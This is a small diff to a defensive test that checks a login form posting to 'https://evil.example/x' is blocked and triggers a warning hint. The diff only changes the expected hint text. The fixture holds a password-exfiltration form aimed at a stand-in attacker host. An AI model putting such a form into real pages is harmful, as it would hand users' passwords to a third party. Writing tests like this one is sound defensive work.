@@ -176,7 +176,7 @@ def test_a_form_that_would_send_the_password_elsewhere_is_not_sent() -> None:
         app_with(f'<form method="post" action="https://evil.example/x">{LOGIN}</form>')
     )
 
-    assert "would send the password to evil.example" in landing.hint
+    assert "would send the password to https://evil.example" in landing.hint
     assert len(trace) == 1
 
 
